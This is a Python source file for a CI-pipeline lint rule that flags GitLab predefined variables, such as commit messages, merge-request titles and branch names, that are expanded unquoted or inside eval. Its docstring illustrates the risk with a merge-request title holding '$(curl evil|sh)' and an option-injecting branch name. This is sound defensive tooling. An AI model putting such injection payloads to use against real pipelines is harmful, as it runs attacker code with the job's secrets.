"""A script expands user-controlled text unquoted, or hands it to ``eval``.

## What it does
Looks at ``before_script``, ``script`` and ``after_script`` of every job (after ``extends``,
``!reference`` and ``default:``) for predefined variables whose text anyone who can push a
branch or open a merge request chooses: ``CI_COMMIT_MESSAGE``, ``CI_COMMIT_TITLE``,
``CI_COMMIT_DESCRIPTION``, ``CI_COMMIT_TAG_MESSAGE``, ``CI_MERGE_REQUEST_TITLE``,
``CI_MERGE_REQUEST_DESCRIPTION`` and the branch names (``CI_COMMIT_BRANCH``,
``CI_COMMIT_REF_NAME``, ``CI_MERGE_REQUEST_SOURCE_BRANCH_NAME``,
``CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME``). It reports one expanded outside double quotes
(``echo $CI_COMMIT_TITLE``) and one anywhere in an ``eval``, ``sh -c`` or ``bash -c`` command.
The shell quoting is read from the script line (single and double quotes, backslashes); the
``_SLUG`` variants, which GitLab reduces to letters, digits and ``-``, are not reported. A
script line shared through ``default:`` or ``!reference`` is reported once, where it is written.

## Why is this bad?
Unquoted, the text is split into words and glob-expanded: a branch named ``--upload-pack=...``
or a title holding ``*`` becomes options and file names of the command. Through ``eval`` it
runs as shell code: a merge request titled ``$(curl evil|sh)`` runs that in the job, with the
job's secrets.

## Example
```yaml
notify:
  script:
    - ./notify.sh $CI_MERGE_REQUEST_TITLE
    - eval "echo $CI_COMMIT_MESSAGE"
```

## Use instead
```yaml
notify:
  script:
    - ./notify.sh "$CI_MERGE_REQUEST_TITLE"
    - printf '%s' "$CI_COMMIT_MESSAGE"
```
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from cigen.diagnostics import Diagnostic, Mark, Severity, at
from cigen.lint.context import LintContext
from cigen.regex import lazy_pattern

CODE = "CIG510"
NAME = "script-injection"
SEVERITY = Severity.WARNING
SUMMARY = "user-controlled text (commit message, MR title, branch) unquoted or in eval"

#: Predefined variables whose value whoever pushes or opens a merge request writes.
USER_CONTROLLED = frozenset(
    {
        "CI_COMMIT_MESSAGE",
        "CI_COMMIT_TITLE",
        "CI_COMMIT_DESCRIPTION",
        "CI_COMMIT_TAG_MESSAGE",
        "CI_MERGE_REQUEST_TITLE",
        "CI_MERGE_REQUEST_DESCRIPTION",
        "CI_COMMIT_BRANCH",
        "CI_COMMIT_REF_NAME",
        "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME",
        "CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME",
    }
)
SCRIPT_KEYS = ("before_script", "script", "after_script")
#: What every name of USER_CONTROLLED starts with: a line without one names none of them.
_PREFIXES = ("CI_COMMIT_", "CI_MERGE_REQUEST_", "CI_EXTERNAL_PULL_REQUEST_")
_NAME_START = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz_")
_NAME_PART = _NAME_START | frozenset("0123456789")
_EVAL = lazy_pattern(r"(?:^|[;&|(`]|\$\()[ \t]*(?:eval|(?:ba|da|z)?sh[ \t]+-c)\b", re.M)


def expansions(line: str) -> Iterator[tuple[int, int, str, bool]]:
    """``(offset, length, name, quoted)`` for each ``$NAME``/``${NAME}`` the shell expands.

    Single quotes and backslash-escaped ``$`` stop expansion; inside ``$(...)`` the quoting
    starts over (approximately: one level is tracked).
    """
    quote = ""  # "", "'" or '"'
    saved: list[str] = []
    index = 0
    while index < len(line):
        char = line[index]
        if quote == "'":
            if char == "'":
                quote = ""
        elif char == "\\":
            index += 2
            continue
        elif char == "'" and quote == "":
            quote = "'"
        elif char == '"':
            quote = "" if quote == '"' else '"'
        elif line.startswith("$(", index):
            saved.append(quote)
            quote = ""
            index += 2
            continue
        elif char == ")" and saved:
            quote = saved.pop()
        elif char == "$":
            found = _variable_at(line, index)
            if found is not None:
                end, name = found
                yield index, end - index, name, quote == '"'
                index = end
                continue
        index += 1


def _name_end(line: str, start: int) -> int:
    """Where the variable name starting at ``start`` ends (``start`` when none starts
    there): a letter or ``_``, then letters, digits and ``_``."""
    if start >= len(line) or line[start] not in _NAME_START:
        return start
    end = start + 1
    while end < len(line) and line[end] in _NAME_PART:
        end += 1
    return end


def _variable_at(line: str, index: int) -> tuple[int, str] | None:
    """``(end, name)`` of the ``$NAME`` or ``${NAME...}`` at ``index`` (a ``$``), or None:
    ``${`` takes a name and everything up to the next ``}``."""
    if line.startswith("${", index):
        end = _name_end(line, index + 2)
        close = line.find("}", end) if end > index + 2 else -1
        return None if close < 0 else (close + 1, line[index + 2 : end])
    end = _name_end(line, index + 1)
    return None if end == index + 1 else (end, line[index + 1 : end])


def _in_eval(text: str, offset: int) -> bool:
    """Whether ``offset`` follows an ``eval`` / ``sh -c`` command on its own line of ``text``."""
    line_start = text.rfind("\n", 0, offset) + 1
    found = _EVAL().search(text, line_start, offset)
    return found is not None


def check(ctx: LintContext) -> Iterator[Diagnostic]:
    from cigen.yaml.scalars import SourceText, locate

    sources: dict[str, SourceText] = {}
    seen: set[tuple[Mark, str]] = set()  # a default: script shared by jobs is reported once
    # the lines (by identity: jobs share them through extends, !reference and default:) that
    # hold nothing to report, for any job; kept alive by the jobs
    clean: set[int] = set()
    for job in ctx.pipeline.model_jobs.values():
        for key in SCRIPT_KEYS:
            # the lines job.lines(key) gives, their positions looked up for a finding only
            lines: tuple[str, ...] = job.value(key) or ()
            if id(lines) in clean:
                continue
            if "CI_" not in "\n".join(lines):
                clean.add(id(lines))
                continue  # no line names such a variable
            marks: list[Mark] | None = None
            found = False
            for index, item in enumerate(lines):
                if not any(prefix in item for prefix in _PREFIXES) or not any(
                    name in item for name in USER_CONTROLLED
                ):
                    continue  # the quoting scan runs only on lines naming such a variable
                for offset, length, name, quoted in expansions(item):
                    if name not in USER_CONTROLLED:
                        continue
                    in_eval = _in_eval(item, offset)
                    if quoted and not in_eval:
                        continue
                    found = True
                    if marks is None:
                        marks = [mark for _line, mark in job.lines(key)]
                    mark = marks[index]
                    loaded = ctx.pipeline.files.get(mark.path)
                    where = mark
                    if loaded is not None and loaded.text:
                        source = sources.get(mark.path)
                        if source is None:
                            source = sources[mark.path] = SourceText(loaded.text)
                        where = locate(source, mark, item, offset, length)
                    if (where, name) in seen:
                        continue
                    seen.add((where, name))
                    if in_eval:
                        message = (
                            f"{job.name} job: ${name} is run as shell code by eval/sh -c, and "
                            "whoever writes it (a commit, a merge request, a branch) chooses "
                            f"that code; pass it as data instead (printf '%s' \"${name}\")"
                        )
                    else:
                        message = (
                            f"{job.name} job: ${name} is expanded unquoted, so text that "
                            "whoever pushes or opens a merge request chooses is split into "
                            f'words and file names; quote it: "${name}"'
                        )
                    yield at(where, CODE, NAME, SEVERITY, message, job=job.name, anchor=name)
            if not found:
                clean.add(id(lines))
